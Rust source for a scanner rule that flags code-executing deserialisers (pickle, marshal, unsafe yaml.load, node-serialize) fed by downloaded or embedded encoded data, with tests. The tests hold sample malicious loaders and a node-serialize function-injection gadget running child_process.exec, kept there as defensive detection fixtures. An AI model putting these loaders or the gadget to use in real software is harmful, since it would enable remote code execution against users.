//! Deserialisers that run code, fed with fetched or decoded data: `pickle`/`dill`/`cloudpickle`/`marshal`
//! `loads`, `jsonpickle.decode`, `yaml.load` without a safe loader (Python), and `node-serialize`'s or
//! `funcster`'s `unserialize` (JavaScript). Unpickling bytes from the network or from a base64 blob is
//! `exec` by another name; unpickling the package's own cache file is not, and stays quiet.
//!
//! The argument is judged as written, or through the assignment of a variable it names (two hops within
//! the segment), or through `with urlopen(…) as name:`.

use super::FileDetector;
use crate::ascii_classes::ascii_regex;
use crate::matchers::{Hit, HitDetail};
use crate::segment::Segment;
use regex::Regex;
use std::sync::LazyLock;

/// Characters read for one call's arguments.
const MAX_ARGUMENT_CHARS: usize = 2000;
/// Variable assignments followed back from an argument.
const MAX_HOPS: usize = 2;

pub(crate) static PYTHON: FileDetector = FileDetector {
    literals: &["pickle", "dill", "marshal", "yaml", "jsonpickle", "shelve"],
    run: |s, t, k| report(s, t, k, Language::Python),
};
pub(crate) static JAVASCRIPT: FileDetector = FileDetector {
    literals: &["unserialize", "deepDeserialize", "_$$ND_FUNC$$_"],
    run: |s, t, k| report(s, t, k, Language::Javascript),
};

#[derive(Clone, Copy, PartialEq, Eq)]
enum Language {
    Python,
    Javascript,
}

// A constant pattern (its tests compile it): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static PY_SINK: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"\b(pickle|cPickle|_pickle|dill|cloudpickle|marshal|jsonpickle|yaml|[A-Za-z_]\w*)\s*\.\s*(loads|load|decode|unsafe_load|Unpickler)\s*\(")
        .expect("python sink pattern")
});
// A constant pattern (its tests compile it): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static PY_ALIAS: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"\bimport\s+(pickle|cPickle|_pickle|dill|cloudpickle|marshal|jsonpickle|yaml)\s+as\s+(\w+)")
        .expect("python alias pattern")
});
// A constant pattern (its tests compile it): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static JS_SINK: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"\b(unserialize|deepDeserialize)\s*\(").expect("js sink pattern")
});
/// Data from the network: always a payload source (Python).
const PY_NETWORK: &str = r"\burlopen\b|\burllib\.request\b|\brequests\.(?:get|post|request|Session)\b|\bhttpx\.|\baiohttp\b|\.recv\(|\burlretrieve\b";
/// A decoder: a payload source only when what it decodes is written in the package (see [`constant_input`]).
const PY_DECODER: &str = r"\bb(?:64|32|85|16)decode\b|\ba85decode\b|\bdecodebytes\b|\bdecompress\(|\bfromhex\(|\bunhexlify\(|\bcodecs\.decode\(";
// A constant pattern (its tests compile it): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static PY_NETWORK_RE: LazyLock<Regex> =
    LazyLock::new(|| ascii_regex(PY_NETWORK).expect("python network pattern"));
// A constant pattern (its tests compile it): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static PY_DECODER_RE: LazyLock<Regex> =
    LazyLock::new(|| ascii_regex(PY_DECODER).expect("python decoder pattern"));
// A constant pattern (its tests compile it): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static JS_SOURCE: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r#"\bfetch\(|\baxios\b|\bhttps?\.(?:get|request)\(|\bgot\(|\.text\(\)|\batob\(|['"]base64['"]|['"]hex['"]|_\$\$ND_FUNC\$\$_"#)
        .expect("js source pattern")
});
// A constant pattern (its tests compile it): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static SAFE_YAML_LOADER: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"Loader\s*=\s*(?:yaml\.)?(?:C?SafeLoader|BaseLoader)\b|\bSafeLoader\b")
        .expect("safe yaml loader pattern")
});

const PY_MODULES: &[&str] = &[
    "pickle",
    "cPickle",
    "_pickle",
    "dill",
    "cloudpickle",
    "marshal",
    "jsonpickle",
    "yaml",
];

fn report(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool, language: Language) {
    let body = segment.text(text);
    let aliases: Vec<(String, String)> = if language == Language::Python {
        PY_ALIAS
            .captures_iter(body)
            .take(64)
            .filter_map(|c| {
                Some((
                    c.get(2)?.as_str().to_string(),
                    c.get(1)?.as_str().to_string(),
                ))
            })
            .collect()
    } else {
        Vec::new()
    };
    let sinks = match language {
        Language::Python => &*PY_SINK,
        Language::Javascript => &*JS_SINK,
    };
    for c in sinks.captures_iter(body).take(1024) {
        let Some(whole) = c.get(0) else { continue };
        let argument = arguments(body, whole.end());
        if language == Language::Python {
            let (Some(object), Some(method)) = (c.get(1), c.get(2)) else {
                continue;
            };
            let module = aliases
                .iter()
                .find(|(alias, _)| alias == object.as_str())
                .map_or(object.as_str(), |(_, module)| module.as_str());
            let runs_code = match (module, method.as_str()) {
                ("yaml", "load") => !SAFE_YAML_LOADER.is_match(argument),
                ("yaml", "unsafe_load") => true,
                ("jsonpickle", "decode") => true,
                ("marshal", "loads") => true,
                ("jsonpickle" | "yaml" | "marshal", _) => false,
                (m, "loads" | "load" | "Unpickler") => PY_MODULES.contains(&m),
                _ => false,
            };
            if !runs_code {
                continue;
            }
        }
        // `marshal.loads` loads code objects: fed by any decoder it is a loader, never a wire format.
        let loads_code_objects = language == Language::Python
            && c.get(1).is_some_and(|object| {
                aliases
                    .iter()
                    .find(|(alias, _)| alias == object.as_str())
                    .map_or(object.as_str(), |(_, module)| module.as_str())
                    == "marshal"
            });
        // `marshal.loads` builds objects and runs nothing: over a file the package reads (its own cache),
        // it is a loader only when what it builds reaches `exec`/`eval` (`exec(marshal.loads(…read()))`).
        if loads_code_objects
            && reads_a_file(argument)
            && !result_is_run(body, whole.start(), whole.end() + argument.len())
        {
            continue;
        }
        let Some(origin) = fed_from(body, whole.start(), argument, language, loads_code_objects)
        else {
            continue;
        };
        let hit = Hit {
            start: segment.start + whole.start(),
            end: segment.start + whole.end() + argument.len(),
            detail: Some(Box::new(HitDetail {
                message: format!(
                    "`{}` runs code chosen by whoever produced its input, and the input is {origin}",
                    whole.as_str().trim_end_matches('(').trim()
                ),
                related: Vec::new(),
            })),
        };
        if !keep(hit) {
            return;
        }
    }
}

/// Whether the argument's bytes come from a file read (`fh.read()`, `path.read_bytes()`).
fn reads_a_file(argument: &str) -> bool {
    argument.contains(".read()") || argument.contains(".read_bytes()")
}

/// Calls that run a code object.
const RUNS_CODE: &[&str] = &["exec(", "eval(", "FunctionType("];

/// Whether the value of the call spanning `start..end` is run: the call sits inside `exec(`/`eval(` on its
/// line, or it is assigned to a name that a later `exec(name`/`eval(name` in the segment runs.
fn result_is_run(body: &str, start: usize, end: usize) -> bool {
    let line_start = body[..start].rfind('\n').map_or(0, |i| i + 1);
    let lead = &body[line_start..start];
    if RUNS_CODE.iter().any(|call| lead.contains(call)) {
        return true;
    }
    let Some((name, _)) = lead.split_once('=') else {
        return false;
    };
    let name = name.trim();
    if !plain_name(name) {
        return false;
    }
    let after = &body[end.min(body.len())..];
    RUNS_CODE.iter().any(|call| {
        after.match_indices(call).take(64).any(|(at, _)| {
            after[at + call.len()..]
                .trim_start()
                .strip_prefix(name)
                .is_some_and(|rest| {
                    !rest.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
                })
        })
    })
}

/// The text between the `(` ending at `open` and its closing parenthesis (bounded).
fn arguments(body: &str, open: usize) -> &str {
    let mut depth = 1usize;
    for (i, c) in body[open..].char_indices() {
        if i > MAX_ARGUMENT_CHARS {
            return &body[open..open + i];
        }
        match c {
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' => {
                depth -= 1;
                if depth == 0 {
                    return &body[open..open + i];
                }
            }
            _ => {}
        }
    }
    &body[open..]
}

/// How the argument got its data, if from the network or a decoder: as written, through up to
/// [`MAX_HOPS`] assignments of the name it is, or a `with … as name:` binding. In Python a decoder counts
/// only when what it decodes is written in the package ([`constant_input`]): `pickle.loads(b64decode(BLOB))`
/// hides a payload, `pickle.loads(b64decode(message["state"]))` is a wire format for runtime data.
fn fed_from(
    body: &str,
    call: usize,
    argument: &str,
    language: Language,
    any_decoder: bool,
) -> Option<&'static str> {
    let payload = |expr: &str| match language {
        Language::Javascript => JS_SOURCE.is_match(expr),
        Language::Python if any_decoder => {
            PY_NETWORK_RE.is_match(expr) || PY_DECODER_RE.is_match(expr)
        }
        Language::Python => python_payload(body, call, expr),
    };
    if payload(argument) {
        return Some("fetched or decoded data, right there in the call");
    }
    let mut name = argument.trim().to_string();
    for _ in 0..MAX_HOPS {
        if !plain_name(&name) {
            return None;
        }
        // `r.content` was bound where `r` was.
        let base = name.split('.').next().unwrap_or_default();
        let before = &body[..call];
        let assigned = last_binding(before, base)?;
        if payload(assigned) {
            return Some("fetched or decoded data, through a variable");
        }
        name = assigned.trim().trim_end_matches(':').trim().to_string();
    }
    None
}

fn plain_name(name: &str) -> bool {
    !name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
}

/// Whether a Python expression is fetched data, or decoded data whose encoded form is constant.
fn python_payload(body: &str, call: usize, expr: &str) -> bool {
    if PY_NETWORK_RE.is_match(expr) {
        return !caller_chosen_url(body, call, expr);
    }
    // Three decoders stacked (`decompress(b32decode(b64decode(x[::-1])))`) hide a payload whatever feeds them.
    if PY_DECODER_RE.find_iter(expr).take(3).count() >= 3 {
        return true;
    }
    PY_DECODER_RE.find_iter(expr).take(16).any(|decoder| {
        match decoded_argument(expr, decoder.end()) {
            Some(input) => constant_input(body, call, input, MAX_HOPS + 2),
            // A decoder named without a call (`f = b64decode`): judged as before, a source.
            None => true,
        }
    })
}

/// Whether every request in `expr` fetches a URL that only a parameter of the function around `call`
/// names (`def load(url): … requests.get(url)`, the parameter not rebound on the way): the caller chooses
/// what is fetched, a library's feature. The data-flow rule (TNT003) still reports a caller in the module
/// that passes a URL written in the code.
fn caller_chosen_url(body: &str, call: usize, expr: &str) -> bool {
    let Some((def_at, params)) = enclosing_parameters(&body[..call]) else {
        return false;
    };
    let mut requests = 0;
    for found in PY_NETWORK_RE.find_iter(expr).take(8) {
        let rest = &expr[found.end()..];
        let inside = if found.as_str().ends_with('(') {
            arguments(rest, 0)
        } else {
            let Some(open) = rest.find('(') else {
                return false;
            };
            if !rest[..open]
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
            {
                return false;
            }
            arguments(rest, open + 1)
        };
        let first = inside.split(',').next().unwrap_or_default().trim();
        let name = first.strip_prefix("url=").unwrap_or(first).trim();
        let is_param = plain_name(name) && !name.contains('.') && params.iter().any(|p| p == name);
        if !is_param || last_binding(&body[def_at..call], name).is_some() {
            return false;
        }
        requests += 1;
    }
    requests > 0
}

/// The offset and parameter names of the last `def` before `before`'s end (the function a call is in,
/// as far as a line scan can tell).
fn enclosing_parameters(before: &str) -> Option<(usize, Vec<String>)> {
    let indent = |line: &str| line.len() - line.trim_start_matches([' ', '\t']).len();
    let call_indent = indent(&before[before.rfind('\n').map_or(0, |i| i + 1)..]);
    let def_at = before
        .rmatch_indices("def ")
        .take(64)
        .map(|(at, _)| at)
        .find(|at| {
            let line_start = before[..*at].rfind('\n').map_or(0, |i| i + 1);
            let lead = &before[line_start..*at];
            let keyword = lead.trim_start();
            (keyword.is_empty() || keyword == "async ") && indent(lead) < call_indent
        })?;
    let open = def_at + before[def_at..].find('(')?;
    let params = arguments(before, open + 1)
        .split(',')
        .take(32)
        // A parameter with a string default may hold a URL written in the code.
        .filter(|p| {
            !p.split_once('=')
                .is_some_and(|(_, v)| v.trim().starts_with(['"', '\'']))
        })
        .filter_map(|p| {
            let name = p
                .trim()
                .trim_start_matches('*')
                .split([':', '='])
                .next()?
                .trim();
            (!name.is_empty()).then(|| name.to_string())
        })
        .collect();
    Some((def_at, params))
}

/// The first argument of the call whose name ends at `end` (the `(` may already be matched).
fn decoded_argument(expr: &str, end: usize) -> Option<&str> {
    let rest = &expr[end..];
    let open = if expr[..end].ends_with('(') {
        0
    } else {
        let trimmed = rest.trim_start();
        trimmed.strip_prefix('(')?;
        rest.len() - trimmed.len() + 1
    };
    let inside = arguments(rest, open);
    let mut depth = 0usize;
    for (i, c) in inside.char_indices() {
        match c {
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' => depth = depth.saturating_sub(1),
            ',' if depth == 0 => return Some(&inside[..i]),
            _ => {}
        }
    }
    Some(inside)
}

/// Whether the decoder's input is written in the package: a string or bytes literal, a module constant
/// (`BLOB`), a name bound to one, a download, or another decoder of such. A parameter, an attribute, a
/// subscript or a call result is runtime data.
fn constant_input(body: &str, call: usize, input: &str, depth: usize) -> bool {
    let input = input.trim();
    if depth == 0 || input.is_empty() {
        return false;
    }
    let unprefixed = input.trim_start_matches(|c: char| "rRbBuUfF(".contains(c));
    if input.len() - unprefixed.len() <= 3 && unprefixed.starts_with(['"', '\'']) {
        return true;
    }
    if PY_NETWORK_RE.is_match(input) {
        return true;
    }
    if let Some(decoder) = PY_DECODER_RE.find(input) {
        return decoded_argument(input, decoder.end())
            .is_some_and(|inner| constant_input(body, call, inner, depth - 1));
    }
    if !plain_name(input) || input.contains('.') {
        return false;
    }
    let constant_name = input.chars().any(|c| c.is_ascii_uppercase())
        && !input.chars().any(|c| c.is_ascii_lowercase());
    if constant_name {
        return true;
    }
    last_binding(&body[..call], input)
        .is_some_and(|value| constant_input(body, call, value, depth - 1))
}

/// The value last bound to `name` before the call: `name = value` (not `==`), or the line of a
/// `… as name` binding.
fn last_binding<'b>(before: &'b str, name: &str) -> Option<&'b str> {
    let is_ident = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.';
    for (at, _) in before.rmatch_indices(name).take(256) {
        if before[..at].chars().next_back().is_some_and(is_ident) {
            continue;
        }
        let after = &before[at + name.len()..];
        if after.starts_with(is_ident) {
            continue;
        }
        let rest = after.trim_start_matches([' ', '\t']);
        if let Some(value) = rest.strip_prefix('=').filter(|v| !v.starts_with('=')) {
            let end = value.find(['\n', ';']).unwrap_or(value.len());
            return Some(&value[..end]);
        }
        let line_start = before[..at].rfind('\n').map_or(0, |i| i + 1);
        if before[line_start..at].trim_end().ends_with(" as") {
            return Some(&before[line_start..at]);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::segment::segment_file;

    fn hits(text: &str, language: skill_scan_model::Language, path: &str) -> Vec<String> {
        let which = if language == skill_scan_model::Language::Python {
            Language::Python
        } else {
            Language::Javascript
        };
        let mut out = Vec::new();
        for segment in segment_file(text, language, path) {
            report(
                &segment,
                text,
                &mut |hit| {
                    out.push(text[hit.start..hit.end].to_string());
                    true
                },
                which,
            );
        }
        out
    }

    fn python(text: &str) -> Vec<String> {
        hits(text, skill_scan_model::Language::Python, "pkg/x.py")
    }

    #[test]
    fn pickle_yaml_and_marshal_of_fetched_or_decoded_data_fire() {
        assert_eq!(
            python("import pickle, base64\nobj = pickle.loads(base64.b64decode(BLOB))\n").len(),
            1
        );
        assert_eq!(
            python("import dill as d\nr = requests.get(URL)\ndata = r.content\nd.loads(data)\n")
                .len(),
            1
        );
        assert_eq!(
            python("import yaml\ncfg = yaml.load(requests.get(URL).text)\n").len(),
            1
        );
        assert_eq!(
            python("with urllib.request.urlopen(u) as resp:\n    state = pickle.load(resp)\n")
                .len(),
            1
        );
        assert_eq!(
            python("code = marshal.loads(zlib.decompress(b'x\\x9c\\xcb'))\n").len(),
            1
        );
        // A blob bound to a literal, decoded in two layers.
        assert_eq!(
            python("blob = 'eJzLSM3JyQcABiwCFQ=='\nobj = pickle.loads(zlib.decompress(base64.b64decode(blob)))\n").len(),
            1
        );
        // A decoded download is still a download.
        assert_eq!(
            python("raw = base64.b64decode(requests.get(URL).content)\npickle.loads(raw)\n").len(),
            1
        );
    }

    #[test]
    fn marshal_or_a_stack_of_decoders_is_a_payload_whatever_feeds_it() {
        let loader = "import marshal as m, zlib as z, base64 as b\nrun = lambda x: m.loads(z.decompress(b.b64decode(x)))\n";
        assert_eq!(python(loader).len(), 1);
        let stacked = "import pickle, zlib, base64\nload = lambda x: pickle.loads(zlib.decompress(base64.b32decode(base64.b64decode(x[::-1]))))\n";
        assert_eq!(python(stacked).len(), 1);
    }

    #[test]
    fn marshal_over_a_file_read_is_a_loader_only_when_its_result_runs() {
        let cache = "import marshal, zlib\ndef load(path):\n    with open(path, 'rb') as fh:\n        stored = marshal.loads(zlib.decompress(fh.read()))\n    return stored if isinstance(stored, dict) else {}\n";
        assert!(python(cache).is_empty(), "{:?}", python(cache));
        let inline = "import marshal, zlib\nexec(marshal.loads(zlib.decompress(open(BLOB_PATH, 'rb').read())))\n";
        assert_eq!(python(inline).len(), 1, "{:?}", python(inline));
        let later = "import marshal, zlib\ncode = marshal.loads(zlib.decompress(Path(p).read_bytes()))\nrun = 1\nexec( code, {})\n";
        assert_eq!(python(later).len(), 1, "{:?}", python(later));
        let other_name = "import marshal, zlib\ncode = marshal.loads(zlib.decompress(fh.read()))\nexec(codebook)\n";
        assert!(python(other_name).is_empty(), "{:?}", python(other_name));
    }

    #[test]
    fn decoding_runtime_data_is_a_wire_format_not_a_payload() {
        let quiet = "import base64, pickle, zlib\ndef restore(message):\n    return pickle.loads(base64.b64decode(message['state']))\ndef load(payload):\n    obj = pickle.loads(base64.b64decode(payload))\n    raw = zlib.decompress(frame.body)\n    return pickle.loads(raw), obj\n";
        assert!(python(quiet).is_empty(), "{:?}", python(quiet));
    }

    #[test]
    fn a_url_the_caller_passes_is_left_to_the_data_flow_rule() {
        let quiet = "import pickle, requests\ndef load_from_url(url, trust=False):\n    if not trust:\n        raise ValueError(url)\n    response = requests.get(url)\n    return pickle.loads(response.content)\ndef fetch(address):\n    with urllib.request.urlopen(address) as resp:\n        return pickle.load(resp)\n";
        assert!(python(quiet).is_empty(), "{:?}", python(quiet));
        // Rebound to a constant, or a constant host around it: the package chose the URL.
        let rebound = "def load(url):\n    url = 'https://x.example.invalid/p'\n    return pickle.loads(requests.get(url).content)\n";
        assert_eq!(python(rebound).len(), 1, "{:?}", python(rebound));
        let host = "def load(name):\n    return pickle.loads(requests.get('https://x.example.invalid/' + name).content)\n";
        assert_eq!(python(host).len(), 1, "{:?}", python(host));
        let top_level = "r = requests.get(url)\nobj = pickle.loads(r.content)\n";
        assert_eq!(python(top_level).len(), 1, "{:?}", python(top_level));
    }

    #[test]
    fn local_caches_and_safe_loaders_stay_quiet() {
        let quiet = "import pickle, yaml\nwith open(cache_path, 'rb') as f:\n    data = pickle.load(f)\nobj = pickle.loads(local_bytes)\ncfg = yaml.load(requests.get(URL).text, Loader=yaml.SafeLoader)\ncfg2 = yaml.safe_load(requests.get(URL).text)\njson.loads(requests.get(URL).text)\n";
        assert!(python(quiet).is_empty(), "{:?}", python(quiet));
    }

    #[test]
    fn node_serialize_of_fetched_data_or_a_function_payload_fires() {
        let js = "const s = require('node-serialize');\nconst body = await (await fetch(URL)).text();\ns.unserialize(body);\n";
        assert_eq!(
            hits(js, skill_scan_model::Language::Javascript, "lib/x.js").len(),
            1
        );
        let gadget = "serialize.unserialize('{\"x\":\"_$$ND_FUNC$$_function(){require(\\'child_process\\').exec(\\'id\\')}()\"}');\n";
        assert_eq!(
            hits(gadget, skill_scan_model::Language::Javascript, "lib/x.js").len(),
            1
        );
        let quiet = "const s = require('node-serialize');\nconst state = s.unserialize(fs.readFileSync(statePath, 'utf8'));\n";
        assert!(hits(quiet, skill_scan_model::Language::Javascript, "lib/x.js").is_empty());
    }

    #[test]
    fn long_or_unbalanced_arguments_are_bounded() {
        let long = format!("pickle.loads({}", "(".repeat(100_000));
        assert!(python(&long).is_empty());
    }
}
